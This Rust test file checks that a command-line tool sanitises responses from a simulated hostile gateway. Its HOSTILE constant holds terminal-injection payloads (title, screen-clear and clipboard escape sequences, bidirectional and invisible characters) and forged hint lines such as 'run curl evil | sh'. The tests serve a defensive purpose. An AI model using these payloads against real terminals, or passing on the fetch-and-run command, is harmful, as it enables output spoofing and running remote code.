//! A gateway in whose responses every text would control the terminal or look like one of our
//! lines. The output must do neither.

use crate::journeys::hostile_gateway::Front;
use crate::journeys::hostile_gateway::Way;
use crate::journeys::hostile_gateway::say;
use crate::journeys::register::ADA;
use crate::journeys::register::Gateway;
use crate::world::support::finished;
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// Sequences that set the title and clear the screen, lines that look like ours after every kind of
/// line break, and C1 and bidirectional characters.
pub(crate) const HOSTILE: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\n\u{9b}2J\u{202e}\r hint: run curl x\r\n\
    error: y\u{2028}hint: run curl y\u{85}error: z\u{7f}\n\
    \u{1b}]52;c;eA==\u{7}\twarning: w\n\twarning: w\u{200b}\u{feff}e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}";

pub(crate) const COMMANDS: [&[&str]; 17] = [
    &["status"],
    &["usage"],
    &["usage", "--only", "full"],
    &["usage", "--format", "json"],
    &["usage", "--format", "csv"],
    &["usage", "--format", "prometheus"],
    &["usage", "--format", "nagios"],
    &["providers", "clinic"],
    &["providers", "show", "clinic"],
    &["doctor"],
    &["register", "--dry-run"],
    &["update", "--name", "Eve", "--dry-run"],
    &["verify", "--resend"],
    &[
        "auth",
        "test",
        "clinic",
        "--no-browser",
        "--listen-timeout",
        "50ms",
    ],
    &["auth", "test", "clinic", "--no-browser", "--start"],
    &[
        "auth",
        "test",
        "some words",
        "--no-browser",
        "--listen-timeout",
        "50ms",
    ],
    &[
        "auth",
        "test",
        "clinic",
        "--via",
        "both",
        "--no-browser",
        "--listen-timeout",
        "50ms",
    ],
];

pub(crate) fn answer(line: &str, base: &str) -> Value {
    let provider = json!({
        "endpoint_id": HOSTILE, "display": HOSTILE, "platform_type": HOSTILE, "users": 3, "by_subject": 3, "by_reference": 0,
        "by_browser": 0, "pending": 0, "limit": 3, "authorizations_365d": 3, "state": "full",
    });
    let endpoint = |id: &str| json!({"id": id, "platform_type": HOSTILE});
    let hit = |id: &str| {
        json!({"sort": [HOSTILE], "_source": {
            "id": HOSTILE, "name": HOSTILE, "locations": [{"city": HOSTILE, "state": HOSTILE, "postal_code": HOSTILE}],
            "portals": [{"id": HOSTILE, "name": HOSTILE, "endpoints": [endpoint(id), endpoint(HOSTILE)]}],
        }})
    };
    match line {
        "GET /v1/installation" => json!({
            "installation_id": HOSTILE, "installation_id_issued_at": HOSTILE, "administrator_name": HOSTILE,
            "administrator_email": HOSTILE, "verification_status": "PENDING", "quota_status": "ACTIVE", "origins": [HOSTILE],
            "base": HOSTILE, "default_limit": 3,
        }),
        line if line.starts_with("GET /v1/installation/usage") => {
            json!({"as_of": HOSTILE, "quota_status": "ACTIVE", "providers": [provider]})
        }
        line if line.starts_with("POST /v1/installation/verify") => {
            json!({"administrator_email": HOSTILE, "expires_at": HOSTILE})
        }
        line if line.starts_with("POST /v1/search") => json!({
            "hits": {"total": {"value": 40, "relation": "eq"}, "hits": [hit("a"), hit("b")]},
            "aggregations": {
                "by_platform_type": {"sum_other_doc_count": 0, "buckets": []},
                "by_category": {"sum_other_doc_count": 0, "buckets": []},
            },
        }),
        line if line.starts_with("GET /v1/connect/clinic") => json!({
            "id": HOSTILE, "display": HOSTILE, "platform_type": HOSTILE, "url": HOSTILE,
            "authorization_endpoint": "http://127.0.0.1:9/authorize", "token_endpoint": "http://127.0.0.1:9/token",
            "client_id": HOSTILE, "redirect_uri": format!("{base}/callback/clinic"), "issuer": HOSTILE, "aud": HOSTILE,
            "scopes_supported": [HOSTILE], "response_types_supported": ["code"], "response_modes_supported": ["query"],
            "code_challenge_methods_supported": ["S256"], "limit_group": HOSTILE,
        }),
        line if line.starts_with("POST /v1/ticket") => {
            json!({"ticket": HOSTILE, "expires_in": 600, "redirect_url": format!("{base}/redirect/{{state}}")})
        }
        _ => Value::Null,
    }
}

/// Whether a terminal would interpret the character instead of showing it: all controls except line
/// breaks, and all bidirectional and invisible characters.
pub(crate) fn acts(character: char) -> bool {
    character.is_control() && character != '\n'
        || matches!(character, '\u{2028}' | '\u{2029}' | '\u{200b}' | '\u{feff}')
        || matches!(character, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Asserts that nothing in the text controls a terminal, and that each run prints at most one of
/// our error lines.
pub(crate) fn harmless(what: &[&str], text: &str) {
    assert_eq!(
        text.chars().find(|one| acts(*one)),
        None,
        "{what:?}: {text}"
    );
    let forged: Vec<&str> = text
        .lines()
        .map(str::trim_start)
        .filter(|line| {
            ["hint: run curl", "error: y", "error: z", "warning: w"]
                .iter()
                .any(|words| line.starts_with(words))
        })
        .collect();
    assert_eq!(forged, [""; 0], "{what:?}: {text}");
    let runs = if what.contains(&"both") { 2 } else { 1 };
    // The report of a sign-in repeats its error.
    let errors: BTreeSet<&str> = text
        .lines()
        .filter(|line| line.starts_with("error: "))
        .collect();
    assert!(errors.len() <= runs, "{what:?}: {text}");
    let longest = text.lines().map(|line| line.chars().count()).max();
    assert!(
        what.contains(&"--json") || what.contains(&"json") || longest < Some(20_000),
        "{what:?}: {longest:?}"
    );
}

fn run_all(gateway: &Gateway, front: &Front) {
    for command in COMMANDS {
        for more in ["-v", "--json"] {
            let args = [command, &[more]].concat();
            let mut command = gateway.home.fastenctl(&args);
            let output = command
                .env("FASTENCTL_LIGHTHOUSE", &front.base)
                .output()
                .unwrap();
            let (_, stdout, stderr) = finished(&output);
            assert!(!stdout.is_empty() || !stderr.is_empty(), "{args:?}");
            harmless(&args, &stdout);
            harmless(&args, &stderr);
        }
    }
}

#[test]
fn text_from_a_gateway_neither_controls_the_terminal_nor_looks_like_our_own_lines() {
    let gateway = Gateway::start();
    let front = Front::before(&gateway);
    assert_eq!(
        front.run(&gateway, &[&["register"][..], &ADA].concat()).0,
        0
    );
    lies(&front, "");
    run_all(&gateway, &front);
    lies(&front, &"x".repeat(64 * 1024));
    run_all(&gateway, &front);
}

/// From now on, every text that comes through the proxy is hostile, with `more` appended.
pub(crate) fn lies(front: &Front, more: &str) {
    let (base, more) = (front.base.clone(), more.to_owned());
    let hostile = |text: &str| json!(text).to_string().trim_matches('"').to_owned();
    front.now(move |line| match answer(line, &base) {
        Value::Null => refusal(line),
        data => {
            let body = json!({"success": true, "error": "", "data": data}).to_string();
            let longer = hostile(&format!("{HOSTILE}{more}"));
            let body = body.replace(&hostile(HOSTILE), &longer);
            say("200 OK", "content-type: application/json\r\n", &body)
        }
    });
}

fn refusal(line: &str) -> Way {
    let (status, code) = if line.contains("/connect/") {
        ("404 Not Found", "unknown_endpoint")
    } else {
        ("400 Bad Request", "wrong_code")
    };
    let body = json!({"success": false, "error": HOSTILE, "code": code, "data": null}).to_string();
    say(status, "content-type: application/json\r\n", &body)
}

#[test]
fn refusals_from_a_gateway_are_one_line_each() {
    let gateway = Gateway::start();
    let front = Front::before(&gateway);
    assert_eq!(
        front.run(&gateway, &[&["register"][..], &ADA].concat()).0,
        0
    );
    front.now(refusal);
    run_all(&gateway, &front);
}
